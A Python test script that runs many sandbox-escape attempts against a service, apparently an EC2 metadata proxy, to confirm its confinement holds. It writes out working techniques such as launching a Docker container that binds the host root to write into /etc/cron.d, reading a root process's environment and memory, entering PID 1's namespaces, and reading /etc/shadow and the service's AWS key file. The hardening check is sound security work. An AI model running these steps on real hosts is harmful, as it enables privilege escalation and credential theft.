"""Attempts to get out of a service's sandbox, made with whatever identity and properties this runs with.

    python3 escapes.py          makes all of them, each in a child process, and prints one line of JSON for each
    python3 escapes.py --list   prints their names and how each is proven to be a real attempt

An attempt returns a proof that it succeeded, or raises OSError or Refused. Anything else is a mistake here.
Each one undoes what it did, because the same code runs as unconfined root to prove that it works.

VICTIM is the pid of a process of root, outside of the sandbox, with SECRET in its environment and memory.
"""

import ctypes
import errno
import json
import os
import signal
import socket
import struct
import sys

libc = ctypes.CDLL(None, use_errno=True)
VICTIM = int(os.environ.get("VICTIM", "0"))
SECRET = os.environ.get("SECRET_TEXT", "").encode()
OWN = os.environ.get("RUNTIME_DIRECTORY", "/run/escape-control").split(":")[0]
MINE = "escape-attempt"

attempts = {}


class Refused(Exception):
    pass


def attempt(name, proof="root"):
    """`proof`: who must succeed with it. root: an unconfined root. user: an unconfined ordinary user. released:
    the proxy with the properties of release 1.0.0, and root. Otherwise the reason why nobody tries it."""

    def register(function):
        assert name not in attempts, name
        attempts[name] = (function, proof)
        return function

    return register


def call(function, *arguments):
    """A function of libc."""
    result = getattr(libc, function)(*arguments)
    if result == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


machine = os.uname().machine
numbers = {
    # name: (x86-64, aarch64)
    "acct": (163, 89),
    "add_key": (248, 217),
    "adjtimex": (159, 171),
    "bpf": (321, 280),
    "capset": (126, 91),
    "delete_module": (176, 106),
    "finit_module": (313, 273),
    "fsopen": (430, 430),
    "init_module": (175, 105),
    "io_uring_setup": (425, 425),
    "kcmp": (312, 272),
    "kexec_load": (246, 104),
    "keyctl": (250, 219),
    "mount": (165, 40),
    "move_mount": (429, 429),
    "open_by_handle_at": (304, 265),
    "open_tree": (428, 428),
    "perf_event_open": (298, 241),
    "pidfd_getfd": (438, 438),
    "pidfd_open": (434, 434),
    "pivot_root": (155, 41),
    "process_vm_readv": (310, 270),
    "process_vm_writev": (311, 271),
    "quotactl": (179, 60),
    "reboot": (169, 142),
    "sethostname": (170, 161),
    "setns": (308, 268),
    "swapon": (167, 224),
    "syslog": (103, 116),
    "umount2": (166, 39),
    "unshare": (272, 97),
    "userfaultfd": (323, 282),
}


def syscall(name, *arguments):
    number = numbers[name][1 if machine == "aarch64" else 0]
    return call("syscall", ctypes.c_long(number), *arguments)


def passes_the_check(name, *arguments):
    """For what must not really happen: with these arguments the kernel checks the permission, then fails
    otherwise. That it was not for lack of permission is the proof."""
    try:
        syscall(name, *arguments)
    except OSError as error:
        if error.errno in (errno.EPERM, errno.EACCES):
            raise
        if error.errno == errno.ENOSYS:
            raise RuntimeError("the kernel does not have it") from error
        return f"permitted, then {error.strerror}"
    return "permitted"


def rewritten(path):
    """Writes what is in a file of the kernel into it again."""
    with open(path, "rb") as file:
        content = file.read()
    with open(path, "wb", buffering=0) as file:
        file.write(content)
    return f"wrote {path}"


def created(path, content=b"", mode=0o644):
    descriptor = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, mode)
    os.write(descriptor, content)
    os.close(descriptor)
    os.unlink(path)
    return f"wrote {path}"


def openable_for_writing(path):
    os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
    return f"{path} can be written to"


def readable(path, size=16):
    with open(path, "rb") as file:
        content = file.read(size)
    if not content:
        raise Refused(f"{path} is empty")
    return f"read {len(content)} bytes of {path}"


def connected(path, timeout=5):
    connection = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    connection.settimeout(timeout)
    connection.connect(path)
    return connection


def http(path, method, target, body=None):
    content = b"" if body is None else json.dumps(body).encode()
    with connected(path, 20) as connection:
        head = f"{method} {target} HTTP/1.0\r\nHost: engine\r\nContent-Type: application/json\r\nContent-Length: {len(content)}\r\n\r\n"
        connection.sendall(head.encode() + content)
        answer = b""
        while chunk := connection.recv(65536):
            answer += chunk
    head, _, body = answer.partition(b"\r\n\r\n")
    return int(head.split()[1]), body


def engine_answers(path):
    status, body = http(path, "GET", "/version")
    if status != 200 or b"ApiVersion" not in body:
        raise Refused(f"{path}: {status}")
    return f"{path} answers"


def first(paths, act):
    """Succeeds if one does."""
    last = Refused("there is none")
    for path in paths:
        try:
            return act(path)
        except (OSError, Refused) as error:
            last = error
    raise last


def processes():
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]


def named(*names):
    """Pids of processes with one of these names."""
    found = []
    for pid in processes():
        try:
            with open(f"/proc/{pid}/comm") as file:
                if file.read().strip() in names:
                    found.append(pid)
        except OSError:
            pass
    if not found:
        raise Refused(f"no {' or '.join(names)} is to be seen")
    return found


# --- An engine's socket is root on the host.

docker = ["/run/docker.sock", "/var/run/docker.sock"]
podman = ["/run/podman/podman.sock", "/var/run/podman/podman.sock"]
containerd = ["/run/containerd/containerd.sock", "/var/run/containerd/containerd.sock"]


def container_with_the_root(path):
    marker = "/etc/cron.d/" + MINE
    container = {
        "Image": "bb:latest",
        "Cmd": ["/bin/sh", "-c", f"echo > /host{marker} && rm /host{marker}"],
        # Not "Privileged": the hosts of the tests lack some capabilities. With the host's root it need not be.
        "HostConfig": {"Binds": ["/:/host"], "NetworkMode": "none"},
    }
    status, body = http(path, "POST", "/v1.40/containers/create", container)
    if status != 201:
        raise Refused(f"{status} {body[:200]!r}")
    target = f"/v1.40/containers/{json.loads(body)['Id']}"
    try:
        http(path, "POST", f"{target}/start")
        _, body = http(path, "POST", f"{target}/wait")
        if json.loads(body)["StatusCode"] != 0:
            raise Refused(body.decode())
    finally:
        http(path, "DELETE", f"{target}?force=1")
    return f"a container wrote {marker} of the host"


@attempt("start a container that writes into the host's /etc/cron.d", "released")
def _():
    return first(docker, container_with_the_root)


@attempt("ask Docker at /run/docker.sock", "released")
def _():
    return engine_answers("/run/docker.sock")


@attempt("ask Docker at /var/run/docker.sock", "released")
def _():
    return engine_answers("/var/run/docker.sock")


@attempt("ask Docker through /proc/self/root", "released")
def _():
    return engine_answers("/proc/self/root/run/docker.sock")


@attempt("ask Docker through the root or the working directory of any other process")
def _():
    kinds = ("root", "cwd")
    return first((f"/proc/{pid}/{kind}/run/docker.sock" for pid in processes() for kind in kinds), engine_answers)


@attempt("ask Docker through a link in its own folder", "released")
def _():
    link = f"{OWN}/{MINE}"
    os.symlink("/run/docker.sock", link)
    try:
        return engine_answers(link)
    finally:
        os.unlink(link)


@attempt("give Docker's socket a second name in its own folder")
def _():
    link = f"{OWN}/{MINE}"
    os.link("/run/docker.sock", link)
    try:
        return engine_answers(link)
    finally:
        os.unlink(link)


@attempt("mount Docker's socket into its own folder")
def _():
    target = f"{OWN}/{MINE}"
    os.close(os.open(target, os.O_WRONLY | os.O_CREAT))
    try:
        syscall("mount", b"/run/docker.sock", target.encode(), None, ctypes.c_ulong(4096), None)  # MS_BIND
        try:
            return engine_answers(target)
        finally:
            syscall("umount2", target.encode(), 0)
    finally:
        os.unlink(target)


@attempt("open a descriptor of Docker's through /proc/PID/fd")
def _():
    paths = (f"/proc/{pid}/fd/{fd}" for pid in named("dockerd") for fd in os.listdir(f"/proc/{pid}/fd"))
    return first(paths, lambda path: os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK)) or path)


@attempt("take a descriptor out of Docker's process", "none: the hosts of the tests filter the call for everybody")
def _():
    def take(pid):
        pidfd = syscall("pidfd_open", pid, 0)
        return f"fd {syscall('pidfd_getfd', pidfd, 0, 0)} was fd 0 of {pid}"

    return first(named("dockerd"), take)


@attempt("ask Podman")
def _():
    return first(podman, engine_answers)


@attempt("speak to containerd")
def _():
    def greet(path):
        with connected(path) as connection:
            connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0")
            if not connection.recv(9):
                raise Refused("no answer")
        return path

    return first(containerd, greet)


@attempt("connect to the shim of a running container")
def _():
    folder = "/run/containerd/s"
    return first((f"{folder}/{name}" for name in os.listdir(folder)), lambda path: connected(path).close() or path)


# Those that every process on the host may connect to, and that start nothing for it.
harmless = {"systemd-journal", "systemd-resolve", "systemd-udevd", "nscd", "systemd-network", "ec2metaproxy", "MainThread"}


def dangerous_listener(connection):
    pid, uid, _ = struct.unpack("3i", connection.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))
    try:
        with open(f"/proc/{pid}/comm") as file:
            name = file.read().strip()
    except OSError:
        name = "?"
    if uid != 0 or name in harmless or pid == 0:
        raise Refused(f"it belongs to {name}")
    return name


def every_socket(root):
    for folder, folders, files in os.walk(root):
        # Control sockets of what any process may ask: user look-ups, the journal, notifications.
        folders[:] = [name for name in folders if name not in ("journal", "userdb")]
        for name in files:
            path = os.path.join(folder, name)
            try:
                # The proxy is meant to read the guard's.
                if path.endswith(("/systemd/notify", "/containers.sock")) or not os.path.exists(path):
                    continue
                if os.stat(path).st_mode & 0o170000 == 0o140000:
                    yield path
            except OSError:
                pass


@attempt("connect to any socket of a process of root that is anywhere in the file system")
def _():
    def named_listener(path):
        for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
            with socket.socket(socket.AF_UNIX, kind) as connection:
                connection.settimeout(2)
                try:
                    connection.connect(path)
                except OSError as error:
                    if error.errno == errno.EPROTOTYPE:
                        continue
                    raise
                return f"{path} of {dangerous_listener(connection)}"
        raise Refused("datagrams")

    roots = ("/run", "/var", "/tmp", "/etc", "/home", "/root", "/srv", "/opt", "/usr/lib")
    return first((path for root in roots for path in every_socket(root)), named_listener)


@attempt("connect to a socket of an engine or of systemd without a path", "none: no engine and no systemd listens on one, unless told to")
def _():
    with open("/proc/net/unix") as file:
        names = {line.split()[-1][1:] for line in file if " @" in line}

    def named_listener(name):
        with connected("\0" + name) as connection:
            return f"@{name} of {dangerous_listener(connection)}"

    return first(names, named_listener)


# --- Other processes.


def map_of(pid, name):
    with open(f"/proc/{pid}/maps") as file:
        for line in file:
            if name in line:
                return int(line.split("-")[0], 16)
    raise Refused(f"no {name}")


@attempt("read the environment of a process of root")
def _():
    with open(f"/proc/{VICTIM}/environ", "rb") as file:
        content = file.read()
    if SECRET not in content:
        raise Refused("the secret is not in it")
    return "it has the secret"


@attempt("read the environment of the host's first process")
def _():
    return readable("/proc/1/environ")


def stack_of(pid):
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        memory.seek(map_of(pid, "[stack]"))
        return f"{len(memory.read(4096))} bytes"


@attempt("read the memory of a process of root")
def _():
    return stack_of(VICTIM)


@attempt("write into the memory of a process of root")
def _():
    address = map_of(VICTIM, "[stack]")
    with open(f"/proc/{VICTIM}/mem", "r+b", buffering=0) as memory:
        memory.seek(address)
        content = memory.read(8)
        memory.seek(address)
        return f"{memory.write(content)} bytes"


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def vm(name):
    # The address is read from a process like the victim that may be looked at: with permission, a wrong one
    # is EFAULT.
    buffer = ctypes.create_string_buffer(8)
    local, remote = IoVec(ctypes.addressof(buffer), 8), IoVec(8, 8)
    return passes_the_check(name, VICTIM, ctypes.byref(local), ctypes.c_ulong(1), ctypes.byref(remote), ctypes.c_ulong(1), ctypes.c_ulong(0))


@attempt("read the memory of a process of root by process_vm_readv")
def _():
    return vm("process_vm_readv")


@attempt("write into the memory of a process of root by process_vm_writev")
def _():
    return vm("process_vm_writev")


@attempt("trace a process of root")
def _():
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    call("ptrace", 0x4206, VICTIM, None, None)  # PTRACE_SEIZE; ends with this process
    return "attached"


@attempt("compare a process of root with itself by kcmp")
def _():
    syscall("kcmp", VICTIM, os.getpid(), 1, 0, 0)
    return "compared"


@attempt("send a signal to a process of root")
def _():
    os.kill(VICTIM, signal.SIGCONT)
    return "sent"


@attempt("send a signal to the container engine")
def _():
    os.kill(named("dockerd")[0], 0)
    return "allowed"


@attempt("protect a process of root from the OOM killer, or give it up")
def _():
    return rewritten(f"/proc/{VICTIM}/oom_score_adj")


@attempt("list the host's files through /proc/1/root")
def _():
    return f"{len(os.listdir('/proc/1/root/'))} names"


@attempt("write into the host's /etc through /proc/1/root")
def _():
    return created(f"/proc/1/root/etc/cron.d/{MINE}")


@attempt("write a unit through the root of any other process")
def _():
    return first((f"/proc/{pid}/root/run/systemd/system/{MINE}.service" for pid in processes()), created)


for kind in ("mnt", "net", "pid", "user", "uts"):

    @attempt(f"enter the {kind} namespace of the host's first process", "root" if kind != "user" else "none: nobody may enter the user namespace that it is in")
    def _(kind=kind):
        descriptor = os.open(f"/proc/1/ns/{kind}", os.O_RDONLY)
        syscall("setns", descriptor, 0)
        return "entered"


@attempt("see which network namespace a process of root is in")
def _():
    return os.readlink(f"/proc/{VICTIM}/ns/net")


# --- More privileges.


@attempt("become root")
def _():
    os.setgid(0)
    os.setuid(0)
    os.setresuid(65534, 65534, 65534)
    return "uid 0 and another one"


@attempt("join group docker")
def _():
    with open("/etc/group") as file:
        gid = next(int(line.split(":")[2]) for line in file if line.startswith("docker:"))
    os.setgroups([gid])
    return "joined"


@attempt("run a setuid program of root", "user")
def _():
    out = os.popen("/usr/local/bin/escape-suid -u").read()
    if out.strip() != "0":
        raise Refused(f"it ran as {out.strip() or 'nobody'}")
    return "it ran as root"


@attempt("leave a setuid program", "user")
def _():
    path = f"{OWN}/{MINE}"
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT, 0o755))
    try:
        os.chmod(path, 0o4755)
        if not os.stat(path).st_mode & 0o4000:
            raise Refused("the bit was dropped")
        return "left"
    finally:
        os.unlink(path)


def raise_capability(bit):
    header = struct.pack("Ii", 0x20080522, 0)
    data = bytearray(24)
    libc.capget(header, (ctypes.c_char * 24).from_buffer(data))
    words = list(struct.unpack("6I", data))
    word = 3 * (bit // 32)
    words[word] |= 1 << bit % 32
    words[word + 1] |= 1 << bit % 32
    syscall("capset", header, struct.pack("6I", *words))
    return "raised"


@attempt("raise CAP_SYS_ADMIN")
def _():
    return raise_capability(21)


@attempt("raise CAP_DAC_OVERRIDE")
def _():
    return raise_capability(1)


@attempt("raise CAP_NET_ADMIN")
def _():
    return raise_capability(12)


@attempt("make a user namespace")
def _():
    syscall("unshare", 0x10000000)
    return "made"


@attempt("make a mount namespace")
def _():
    syscall("unshare", 0x20000)
    return "made"


@attempt("make a network namespace")
def _():
    syscall("unshare", 0x40000000)
    return "made"


@attempt("start a process in a namespace by clone", "root")
def _():
    number = 220 if machine == "aarch64" else 56
    pid = call("syscall", ctypes.c_long(number), ctypes.c_ulong(0x20000 | 17), None, None, None, None)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return "started"


# --- The kernel.


@attempt("mount a file system")
def _():
    target = f"{OWN}/{MINE}"
    os.mkdir(target)
    try:
        syscall("mount", b"none", target.encode(), b"tmpfs", ctypes.c_ulong(0), None)
        syscall("umount2", target.encode(), 0)
    finally:
        os.rmdir(target)
    return "mounted"


@attempt("mount by the newer calls")
def _():
    return passes_the_check("fsopen", b"tmpfs", 0)


@attempt("copy a mount of the host's root")
def _():
    os.close(syscall("open_tree", -100, b"/proc/1/root", 1))
    return "copied"


@attempt("unmount what hides the host's files")
def _():
    return passes_the_check("umount2", b"/nonexistent", 0)


@attempt("make another folder its root")
def _():
    os.chroot("/usr")
    return "done"


@attempt("swap its root")
def _():
    return passes_the_check("pivot_root", b"/nonexistent", b"/nonexistent")


@attempt("load a module", "none: the kernel of the tests may have no modules")
def _():
    return passes_the_check("init_module", b"no module", ctypes.c_ulong(9), b"")


@attempt("load a module from a file", "none: the kernel of the tests may have no modules")
def _():
    return passes_the_check("finit_module", -1, b"", 0)


@attempt("unload a module", "none: the kernel of the tests may have no modules")
def _():
    return passes_the_check("delete_module", b"no_such_module", os.O_NONBLOCK)


@attempt("load another kernel", "none: the hosts of the tests filter the call for everybody")
def _():
    # 17 segments are more than the kernel takes.
    return passes_the_check("kexec_load", ctypes.c_ulong(0), ctypes.c_ulong(17), None, ctypes.c_ulong(0))


@attempt("restart the machine")
def _():
    return passes_the_check("reboot", 0, 0, 0, None)


@attempt("load a BPF program")
def _():
    return passes_the_check("bpf", 5, ctypes.create_string_buffer(128), 128)


@attempt("watch the kernel by perf events", "none: the hosts of the tests filter the call for everybody")
def _():
    return passes_the_check("perf_event_open", ctypes.create_string_buffer(128), -1, 0, -1, ctypes.c_ulong(0))


@attempt("use the kernel's keyring", "user")
def _():
    syscall("add_key", b"user", MINE.encode(), b"x", ctypes.c_size_t(1), -2)  # KEY_SPEC_PROCESS_KEYRING
    return "added a key"


@attempt("handle page faults itself by userfaultfd", "root")
def _():
    os.close(syscall("userfaultfd", 0))
    return "made"


@attempt("make requests through io_uring", "user")
def _():
    return passes_the_check("io_uring_setup", 0, None)


@attempt("read the kernel's log")
def _():
    buffer = ctypes.create_string_buffer(64)
    syscall("syslog", 3, buffer, 64)
    return "read"


@attempt("write to the kernel's log", "none: the hosts of the tests have no /dev/kmsg")
def _():
    return openable_for_writing("/dev/kmsg")


@attempt("open the machine's memory", "none: the hosts of the tests have no /dev/mem")
def _():
    return openable_for_writing("/dev/mem")


@attempt("make a device file for a disk and open it")
def _():
    path = f"{OWN}/{MINE}"
    os.mknod(path, 0o600 | 0o060000, os.makedev(7, 0))
    os.unlink(path)
    return "made"


@attempt("make a network interface through /dev/net/tun")
def _():
    os.close(os.open("/dev/net/tun", os.O_RDWR))
    return "opened"


@attempt("set the clock")
def _():
    # The default length of a tick: nothing changes.
    timex = ctypes.create_string_buffer(256)
    struct.pack_into("I", timex, 0, 0x4000)
    struct.pack_into("q", timex, 88, 10000)
    syscall("adjtimex", timex)
    return "set"


@attempt("name the host")
def _():
    name = os.uname().nodename.encode()
    syscall("sethostname", name, ctypes.c_size_t(len(name)))
    return "named"


@attempt("add swap space", "none: the hosts of the tests filter the call for everybody")
def _():
    return passes_the_check("swapon", b"/nonexistent", 0)


@attempt("have processes accounted into a file")
def _():
    return passes_the_check("acct", b"/nonexistent")


@attempt("set a kernel parameter that runs a program (core_pattern)")
def _():
    return rewritten("/proc/sys/kernel/core_pattern")


@attempt("set a network parameter")
def _():
    return rewritten("/proc/sys/net/ipv4/ip_forward")


@attempt("write below /sys")
def _():
    return rewritten("/sys/class/net/docker0/mtu")


@attempt("press SysRq", "none: the hosts of the tests have no /proc/sysrq-trigger")
def _():
    return openable_for_writing("/proc/sysrq-trigger")


@attempt("make a control group outside of its own")
def _():
    path = f"/sys/fs/cgroup/{MINE}"
    os.mkdir(path)
    os.rmdir(path)
    return "made"


@attempt("move itself into the container engine's control group")
def _():
    with open(f"/proc/{named('dockerd')[0]}/cgroup") as file:
        group = next(line.strip().split("::")[1] for line in file if line.startswith("0::"))
    # The hosts of the tests mount the hierarchy at /sys/fs/cgroup or below it.
    roots = ("/sys/fs/cgroup", "/sys/fs/cgroup/unified")
    return first((f"{root}{group}/cgroup.procs" for root in roots), openable_for_writing)


@attempt("open a file by its handle, past all folders", "none: the hosts of the tests filter the call for everybody")
def _():
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    call("name_to_handle_at", -100, b"/run/ec2metaproxy-guard", handle, ctypes.byref(mount), 0)
    beside = os.open("/run", os.O_RDONLY)
    os.close(syscall("open_by_handle_at", beside, handle, os.O_RDONLY))
    return "opened"


# --- Files that outlive the process, or that another one runs.

for path in (
    "/etc/cron.d",
    "/etc/systemd/system",
    "/run/systemd/system",
    "/usr/lib/systemd/system-generators",
    "/etc/udev/rules.d",
    "/etc/sudoers.d",
    "/etc/profile.d",
    "/etc/docker",
    "/etc/ec2metaproxy/firewall.d",
    "/usr/lib/ec2metaproxy",
    "/usr/bin",
    "/var/lib/systemd",
    "/var/spool",
    "/root/.ssh",
    "/run/xtables",
    "/home",
    "/run/user",
):

    @attempt(f"write into {path}")
    def _(path=path):
        return created(f"{path}/{MINE}")


for path in (
    "/etc/ld.so.preload",
    "/etc/ec2metaproxy/environment",
    "/etc/ec2metaproxy/config.json",
    "/etc/passwd",
    "/etc/shadow",
    "/usr/lib/ec2metaproxy/notify.node",
    "/usr/lib/ec2metaproxy/firewall-repair",
    "/usr/lib/systemd/system/ec2metaproxy.service",
):

    @attempt(f"change {path}")
    def _(path=path):
        return openable_for_writing(path)


@attempt("read the host's password hashes")
def _():
    return readable("/etc/shadow")


@attempt("read the AWS keys of the service from its file")
def _():
    return readable("/etc/ec2metaproxy/environment")


@attempt("read root's files")
def _():
    return readable("/root/secret")


@attempt("read the files of containers")
def _():
    return f"{len(os.listdir('/var/lib/docker'))} names"


@attempt("leave a file in the host's /tmp")
def _():
    # What is seen from outside counts: VICTIM has the host's.
    path = f"/tmp/{MINE}-{os.getpid()}"
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT, 0o600))
    try:
        if not os.path.exists(f"/proc/{VICTIM}/root{path}"):
            raise Refused("it is in a /tmp of its own")
        return "left"
    finally:
        os.unlink(path)


@attempt("change the journal's files")
def _():
    folder = "/var/log/journal"
    return first((f"{folder}/{name}/system.journal" for name in os.listdir(folder)), openable_for_writing)


# --- systemd and D-Bus, which start processes outside of the sandbox.


@attempt("speak to systemd on its private socket")
def _():
    with connected("/run/systemd/private") as connection:
        connection.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
        if not connection.recv(64).startswith(b"OK"):
            raise Refused("not authenticated")
    return "authenticated"


@attempt("have systemd start a process, by systemd-run")
def _():
    status = os.system(f"systemd-run --quiet --wait --unit={MINE} /bin/true >/dev/null 2>&1 </dev/null")
    if status != 0:
        raise Refused(f"exit code {os.waitstatus_to_exitcode(status)}")
    return "started"


@attempt("speak to the system's D-Bus", "user")
def _():
    with connected("/run/dbus/system_bus_socket") as connection:
        connection.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
        if not connection.recv(64).startswith(b"OK"):
            raise Refused("not authenticated")
    return "authenticated"


@attempt("write to the journal as any program it likes", "user")
def _():
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as journal:
        journal.connect("/run/systemd/journal/socket")
        journal.send(b"SYSLOG_IDENTIFIER=sshd\nPRIORITY=7\nMESSAGE=forged by a test\n")
    return "written"


# --- The network.

families = {
    "a raw IPv4 socket": (socket.AF_INET, socket.SOCK_RAW, 1),
    "a raw IPv6 socket": (socket.AF_INET6, socket.SOCK_RAW, 58),
    "a packet socket": (socket.AF_PACKET, socket.SOCK_RAW, 0),
}
for name, arguments in families.items():

    @attempt(f"open {name}")
    def _(arguments=arguments):
        socket.socket(*arguments).close()
        return "opened"


@attempt("open a socket of the kernel's cryptography", "none: the kernel of the tests may not have it")
def _():
    socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET, 0).close()
    return "opened"


@attempt("open a socket to the hypervisor", "user")
def _():
    socket.socket(40, socket.SOCK_STREAM, 0).close()
    return "opened"


@attempt("listen on a port below 1024")
def _():
    with socket.socket(socket.AF_INET) as listener:
        listener.bind(("127.0.0.1", 81))
        listener.listen()
    return "listening"


def shell(command, proof):
    status = os.system(f"{command} >/dev/null 2>&1 </dev/null")
    if status != 0:
        raise Refused(f"`{command}`: exit code {os.waitstatus_to_exitcode(status)}")
    return proof


@attempt("make a network interface")
def _():
    return shell("ip link add escape0 type bridge && ip link del escape0", "made")


@attempt("change the routing rules that keep containers out")
def _():
    return shell("ip rule add pref 5 to 192.0.2.1 lookup main && ip rule del pref 5", "changed")


@attempt("change the packet filter")
def _():
    return shell("nft add table inet escape && nft delete table inet escape", "changed")


@attempt("read the packet filter's rules")
def _():
    return shell("nft list ruleset", "read")


# --- The guard and the proxy.

guard = "/run/ec2metaproxy-guard"


@attempt("write beside the guard's socket")
def _():
    return created(f"{guard}/{MINE}")


@attempt("have the guard's repair run by touching its file")
def _():
    path = f"{guard}/repair"
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT))
    return "touched"


@attempt("change what the guard remembers")
def _():
    return created(f"/var/lib/ec2metaproxy-guard/{MINE}")


@attempt("make the proxy believe in a container, by the guard's socket", "none: the guard does not read")
def _():
    line = json.dumps({"kind": "container", "id": "f" * 64, "name": MINE}).encode() + b"\n"
    with connected(f"{guard}/containers.sock", 3) as reader, connected(f"{guard}/containers.sock", 3) as writer:
        try:
            for _round in range(3):
                writer.sendall(line)
        except OSError:
            pass
        seen = b""
        try:
            while len(seen) < 1_000_000 and (chunk := reader.recv(65536)):
                seen += chunk
        except TimeoutError:
            pass
    if MINE.encode() not in seen:
        raise Refused("readers were told nothing of it")
    return "another reader was told"


@attempt("read the memory of the other service")
def _():
    return first(os.environ.get("OTHER_SERVICES", "").split(), stack_of)


def outcome(function):
    signal.alarm(60)
    try:
        return "succeeded", function()
    except (OSError, Refused) as error:
        return "refused", str(error)
    except BaseException as error:  # noqa: BLE001
        return "broken", f"{type(error).__name__}: {error}"


def main():
    if sys.argv[1:] == ["--list"]:
        print(json.dumps([{"name": name, "proof": proof} for name, (_, proof) in attempts.items()]))
        return
    for name, (function, _) in attempts.items():
        reading, writing = os.pipe()
        child = os.fork()
        if child == 0:
            os.close(reading)
            kind, detail = outcome(function)
            os.write(writing, json.dumps({"name": name, "outcome": kind, "detail": str(detail)[:500]}).encode())
            os._exit(0)
        os.close(writing)
        with os.fdopen(reading) as pipe:
            line = pipe.read()
        _, status = os.waitpid(child, 0)
        print(line or json.dumps({"name": name, "outcome": "broken", "detail": f"it ended with status {status}"}), flush=True)


main()
